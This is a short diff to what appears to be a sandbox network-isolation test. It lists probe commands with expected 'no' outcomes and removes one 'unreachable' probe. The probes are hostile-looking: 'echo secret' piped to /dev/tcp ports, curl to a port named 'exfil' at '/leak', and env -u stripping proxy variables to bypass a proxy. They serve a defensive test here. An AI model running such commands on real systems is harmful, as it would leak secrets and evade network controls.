@@ -112,7 +112,6 @@ x direct-allowed bash -c 'echo secret > /dev/tcp/127.0.0.1/{reg}'
 x vault bash -c 'echo hi > /dev/tcp/127.0.0.1/{vault}'
 x no-proxy env -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy curl -sf --max-time 5 http://127.0.0.1:{exfil}/
 x refused curl -sf http://127.0.0.1:{exfil}/leak
-x unreachable bash -c 'echo hi > /dev/tcp/192.0.2.1/80'
 {six_line}
 echo dnsq > /dev/udp/127.0.0.1/{dns_port}
 echo "$HTTPS_PROXY" > "$PWD/proxy"
@@ -131,7 +130,6 @@ echo "$HTTPS_PROXY" > "$PWD/proxy"
             "vault:no",
             "no-proxy:no",
             "refused:no",
-            "unreachable:no",
             "ipv6:no"
         ],
         "{}",
